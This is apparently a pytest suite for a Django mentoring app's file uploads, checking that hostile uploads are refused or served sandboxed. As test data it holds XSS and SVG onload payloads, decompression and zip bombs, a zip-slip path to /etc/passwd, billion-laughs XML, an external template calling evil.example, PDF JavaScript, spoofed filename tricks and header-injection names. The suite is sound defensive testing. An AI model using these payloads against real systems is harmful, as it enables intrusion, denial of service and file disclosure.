"""Files built to do harm, brought to the real address and looked at by the real worker: U01 to U19 of the catalogue.

None brings a page of ours to its knees, none is shown as what it claims to be, and each that is refused says why.
"""

from __future__ import annotations

import io
import re
import resource
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from time import monotonic

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pytest_django import Settings

from mentoring.conversations import actions as conversations
from mentoring.files import guarded, types
from mentoring.files.actions import take
from mentoring.files.models import File
from mentoring.files.naming import shown_name
from mentoring.partnerships.models import Partnership
from tests.cast import Cast, Postbox
from tests.files.things import archive, needs_ffmpeg, picture, sound
from tests.trust.world import at_work, hand_over, surely_signed_in

MEGABYTES, SECONDS = 700, 40  # of a guarded program; for the slowest of them, on a busy machine
SCRIPT = b"<script>alert(1)</script>"
EXE = b"MZ\x90\x00\x03" + b"\0" * 200


def png_header(width: int, height: int) -> bytes:
    """A picture that says it is very large, in very few bytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compressobj(9)
    body = b"".join(rows.compress(b"\0" * (1 + 3 * width)) for _row in range(min(height, 2000))) + rows.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def endless_gif() -> bytes:
    """Five thousand frames."""
    frames = [Image.new("P", (8, 8), number % 2) for number in range(2)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=[frames[number % 2] for number in range(1, 5000)])
    return out.getvalue()


def docx(**entries: bytes) -> bytes:
    """A document with these entries beside what every one has."""
    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"} | {
        name.replace("__", "/").replace("_DOT_", "."): content for name, content in entries.items()
    })  # fmt: skip


def lying_zip() -> bytes:
    """An entry that says it is small, and is not."""
    whole = bytearray(archive({"[Content_Types].xml": b"\0" * 5_000_000}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = whole.index(mark) + at
        whole[start : start + 4] = struct.pack("<I", 10)
    return bytes(whole)


def many_entries() -> bytes:
    """More than any document has."""
    return archive({f"word/{number}.xml": b"" for number in range(2100)})


def locked() -> bytes:
    """A document that says it is encrypted."""
    whole = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(mark), bytes(whole)):
            whole[found.start() + at] |= 1
    return bytes(whole)


REMOTE = b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
TAKEN = ""

# id, name, its bytes, and why it is refused – or nothing, when it is taken.
HOSTILE: list[tuple[str, str, bytes | Callable[[], bytes], str]] = [
    ("U01 empty", "a.txt", b"", types.EMPTY),
    ("U01 over the cap", "a.txt", b"x" * 400_001, take.TOO_LARGE),
    ("U02 many pixels", "a.png", lambda: png_header(20_000, 20_000), guarded.TOO_MANY_PIXELS),
    ("U02 9000 squared", "a.png", lambda: png_header(9_000, 9_000), guarded.TOO_MANY_PIXELS),
    ("U04 JPEG and HTML", "a.jpg", lambda: picture() + SCRIPT, TAKEN),
    ("U04 GIF and JS", "a.gif", lambda: picture("GIF") + b"*/=1;" + SCRIPT, TAKEN),
    ("U04 PDF and ZIP", "a.pdf", lambda: b"%PDF-1.4\n" + archive({"a": b"b"}), TAKEN),
    ("U05 SVG", "a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT, TAKEN),
    ("U05 HTML", "a.html", b"<!doctype html>" + SCRIPT, TAKEN),
    ("U05 MHTML", "a.mht", b"MIME-Version: 1.0\r\n" + SCRIPT, types.PROGRAM),
    ("U06 EPS", "a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n", types.NOT_TAKEN),
    ("U06 EPS as a picture", "a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n", types.NOT_TAKEN),
    ("U06 TIFF", "a.tiff", lambda: picture("TIFF"), types.NOT_TAKEN),
    ("U06 PSD", "a.psd", b"8BPS\0\1" + b"\0" * 50, types.NOT_TAKEN),
    ("U06 HEIC", "a.heic", b"\0\0\0\x18ftypheic\0\0\0\0", types.PHONE_PICTURE),
    ("U06 WMF", "a.wmf", b"\xd7\xcd\xc6\x9a\0\0" + b"\0" * 50, types.NOT_TAKEN),
    ("U07 cut short", "a.jpg", lambda: picture(size=(800, 600))[:2000], guarded.BROKEN),
    ("U07 noise", "a.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, guarded.BROKEN),
    ("U08 5000 frames", "a.gif", endless_gif, TAKEN),
    ("U09 1000 to 1", "a.docx", lambda: docx(word__big_DOT_xml=b"\0" * 50_000_000), guarded.UNPACKS),
    ("U09 not unpacked", "a.zip", lambda: archive({"big": b"\0" * 50_000_000}), TAKEN),
    ("U09 entries", "a.docx", many_entries, guarded.UNPACKS),
    ("U10 a lie about size", "a.docx", lying_zip, guarded.BROKEN),
    ("U10 zip slip", "a.zip", lambda: archive({"../../etc/passwd": b"x"}), TAKEN),
    ("U10 encrypted", "a.docx", locked, guarded.LOCKED),
    ("U10 nested", "a.zip", lambda: archive({"b.zip": archive({"c.zip": b"\0" * 10_000_000})}), TAKEN),
    ("U10 cut", "a.docx", lambda: docx()[:-30], guarded.BROKEN),
    ("U11 docm", "a.docm", lambda: docx(), types.PROGRAM),
    ("U11 macro in docx", "a.docx", lambda: docx(word__vbaProject_DOT_bin=b"x"), guarded.MACRO),
    ("U11 external template", "a.docx", lambda: docx(word___rels__settings_DOT_xml_DOT_rels=REMOTE), guarded.CALLS),
    ("U11 billion laughs", "a.xlsx", lambda: docx(xl__a_DOT_xml=LAUGHS), guarded.CALLS),
    ("U11 old office", "a.doc", bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600, types.OLD_OFFICE),
    ("U12 PDF with JS", "a.pdf", b"%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>", TAKEN),
    ("U15 EXE as JPEG", "a.jpg", EXE, types.PROGRAM),
    ("U15 HTML as PNG", "a.png", b"<!doctype html>" + SCRIPT, types.NOT_WHAT_IT_SAYS),
    ("U15 PDF as JPEG", "a.jpg", b"%PDF-1.4", types.NOT_WHAT_IT_SAYS),
    ("U16 double ending", "cv.pdf.exe", b"%PDF-1.4", types.PROGRAM),
    ("U16 wide dot", "cv.pdf．exe", b"%PDF-1.4", types.PROGRAM),
    ("U16 trailing dots", "cv.exe. . .", b"%PDF-1.4", types.PROGRAM),
    ("U16 turned round", "cv\u202egpj.exe", b"x", types.PROGRAM),
    ("U16 link", "a.url", b"[InternetShortcut]\nURL=https://evil.example", types.PROGRAM),
    ("U16 lnk by its bytes", "a.txt", bytes.fromhex("4c0000000114020000000000c000000000000046"), types.PROGRAM),
    ("U16 iso", "a.iso", b"\0" * 100, types.PROGRAM),
    ("U16 note", "a.one", b"\xe4\x52\x5c\x7b", types.PROGRAM),
    ("U17 list of files", "a.ogg", b"OggS\n#EXTM3U\nfile:///etc/passwd\n", "sound"),
    ("U17 wrong header", "a.mp3", b"ID3\x04" + b"\xff" * 3000, "sound"),
    ("U17 empty box", "a.mp4", b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + b"\0" * 100, "sound"),
    ("U19 card", "a.vcf", b"BEGIN:VCARD\r\nFN:Somebody\r\nEND:VCARD\r\n" * 1000, TAKEN),
]  # fmt: skip


@pytest.fixture
def partnership(cast: Cast, postbox: Postbox, settings: Settings, tmp_path: object) -> Partnership:
    """Amina and Grace, in a house that takes small files."""
    settings.MEDIA = tmp_path
    settings.FILE_BYTES = 400_000
    return at_work(cast.amina, cast.grace, moment=datetime.now(UTC))


@pytest.mark.parametrize(("about", "name", "plain", "reason"), HOSTILE, ids=[row[0] for row in HOSTILE])
def test_hostile_files_do_no_harm(
    about: str, name: str, plain: bytes | Callable[[], bytes], reason: str, partnership: Partnership, cast: Cast
) -> None:
    browser, began = surely_signed_in(cast.amina), monotonic()
    browser.raise_request_exception = False
    where = f"/conversations/{partnership.conversation_id}/"
    content = plain() if callable(plain) else plain

    answer = browser.post(where, {"text": "", "file": SimpleUploadedFile(name, content)})
    if answer.status_code == 302:
        conversations.prepare_file(now=datetime.now(UTC))

    said = refused(answer.status_code, browser.get(where).content.decode() + answer.content.decode())
    expected = {"sound": sound_reasons()}.get(reason, {reason})
    assert said in expected, about
    if said == TAKEN:
        is_only_what_it_is(browser, File.objects.get())
    assert monotonic() - began < SECONDS
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < MEGABYTES * 1024


def refused(status: int, pages: str) -> str:
    """Why a file was refused, in the words that stand on the page; nothing when it was taken."""
    assert status in {302, 422}
    assert "Something went wrong" not in pages
    reasons = [one for one in reasons_of_all() if one in pages]
    assert len(reasons) <= 1
    assert bool(reasons) or status == 302
    return reasons[0] if reasons else TAKEN


def reasons_of_all() -> list[str]:
    """Every plain reason of the room."""
    said = {value for room in (types, guarded, take) for name, value in vars(room).items()
            if name.isupper() and isinstance(value, str) and value.endswith(".")}  # fmt: skip
    return sorted(said | {"There is no sound in it."})


def sound_reasons() -> set[str]:
    """What cannot be heard is refused, where there is somebody to listen."""
    return {guarded.BROKEN, "There is no sound in it."} if guarded.find_ffmpeg() else {TAKEN}


def is_only_what_it_is(browser: object, file: File) -> None:
    """Every form of it is locked up, and what we have not made is only ever fetched."""
    assert file.state == File.State.READY
    for name in file.made:
        answer = browser.get(f"/files/{file.pk}/{name}/")  # type: ignore[attr-defined]
        whole = b"".join(answer.streaming_content)
        kind = answer["Content-Type"].partition(";")[0]
        assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert kind not in {"text/html", "image/svg+xml", "application/xhtml+xml", "text/javascript"}
        if name == "original":
            assert answer["Content-Disposition"].startswith("attachment")
        else:
            assert kind.split("/")[0] in {"image", "audio", "video"}
            assert SCRIPT not in whole


@needs_ffmpeg
def test_hostile_film_that_calls_elsewhere_is_read_as_nothing_else(partnership: Partnership, cast: Cast) -> None:
    """U17: a list of addresses under a film's name is no film, and nobody is called."""
    for plain in (b"#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:9/x\n", b"ffconcat version 1.0\nfile /etc/passwd\n"):
        browser = surely_signed_in(cast.amina)
        where = f"/conversations/{partnership.conversation_id}/"
        answer = browser.post(where, {"text": "", "file": SimpleUploadedFile("a.mp4", plain)})
        assert refused(answer.status_code, answer.content.decode()) == types.NOT_WHAT_IT_SAYS
    assert sound()  # and a real one is read


@pytest.mark.parametrize(("typed", "shown"), [
    ("../../etc/passwd", "passwd"), ("C:\\Users\\me\\cv.pdf", "cv.pdf"), ("CON", "_CON"), ("nul.txt", "_nul.txt"),
    ("a\r\nX-Evil: 1.txt", "a X-Evil_ 1.txt"), ("x" * 400 + ".pdf", "x" * 120 + ".pdf"),
    ("é" * 150 + ".pdf", "é" * 98 + ".pdf"), ("cv\u202efdp.txt", "cvfdp.txt"), (" cv.pdf. ", "cv.pdf"),
    ("-rf.txt", "rf.txt"), ("a\0b.txt", "ab.txt"), (".htaccess", "htaccess"), ("", "file"), ("...", "file"),
    ('a"b<c>.txt', "a_b_c_.txt"), ("سيرة.pdf", "سيرة.pdf"), ("\ud800.txt", "txt"),
])  # fmt: skip
def test_hostile_names_are_shown_clean(typed: str, shown: str) -> None:
    """U14."""
    assert shown_name(typed) == shown


def test_hostile_names_are_sent_as_the_standard_says(partnership: Partnership, cast: Cast) -> None:
    """U14: RFC 6266, whatever stands in it."""
    name = 'x"; filename=evil; سيرة.txt'
    file = hand_over(partnership, cast.amina, name, b"Minutes", moment=datetime.now(UTC))

    sent = surely_signed_in(cast.amina).get(f"/files/{file.pk}/original/")["Content-Disposition"]
    assert (sent.startswith("attachment; filename*=utf-8''"), '"' in sent, sent.count(";")) == (True, False, 1), sent


@pytest.mark.parametrize("size", ["5000000000", "400001", "9" * 30, "-1", "", "x", "0"])
def test_hostile_sizes_are_refused_before_a_byte_has_come(size: str, partnership: Partnership, cast: Cast) -> None:
    """U01."""
    about = {"name": "a.txt", "size": size, "client_id": "01890000-0000-7000-8000-00000000dead"}
    answer = surely_signed_in(cast.amina).post(f"/conversations/{partnership.conversation_id}/files/", about)

    assert (answer.status_code, list(answer.json()), File.objects.count()) == (422, ["says"], 0)


def test_hostile_zip_helper_is_what_it_claims() -> None:
    """So that the rows above cannot pass for another reason."""
    with zipfile.ZipFile(io.BytesIO(lying_zip())) as found:
        assert found.getinfo("[Content_Types].xml").file_size == 10
